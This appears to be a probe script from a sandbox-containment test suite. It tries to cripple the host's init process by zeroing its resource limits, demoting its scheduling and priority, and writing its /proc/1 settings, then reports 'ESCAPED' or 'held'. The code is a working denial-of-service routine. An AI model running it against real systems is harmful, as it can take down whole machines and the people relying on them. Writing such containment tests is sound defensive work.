"""Takes from process 1 what it needs to work: its limits, its cores, its share of time.

kind: lifetime
needs: two users
seconds: 10
"""

import ctypes
import os
import resource

libc = ctypes.CDLL(None, use_errno=True)
done = []
for name in ("RLIMIT_NOFILE", "RLIMIT_NPROC", "RLIMIT_CPU", "RLIMIT_AS", "RLIMIT_FSIZE", "RLIMIT_DATA"):
    try:
        resource.prlimit(1, getattr(resource, name), (0, 0))
        done.append(name)
    except OSError:
        pass
try:
    os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0))
    done.append("scheduler")
except OSError:
    pass
try:
    os.setpriority(os.PRIO_PROCESS, 1, 19)
    done.append("priority")
except OSError:
    pass
try:
    os.sched_setaffinity(1, os.sched_getaffinity(1))
    done.append("affinity")
except OSError:
    pass
for name in ("oom_score_adj", "oom_adj", "autogroup", "timerslack_ns", "comm", "coredump_filter", "clear_refs"):
    try:
        with open(f"/proc/1/{name}", "w") as file:
            file.write("1000" if name.startswith("oom") else "1")
        done.append(name)
    except OSError:
        pass
print(f"ESCAPED: changed the server's {', '.join(done)}" if done else "held: nothing of the server can be changed", flush=True)
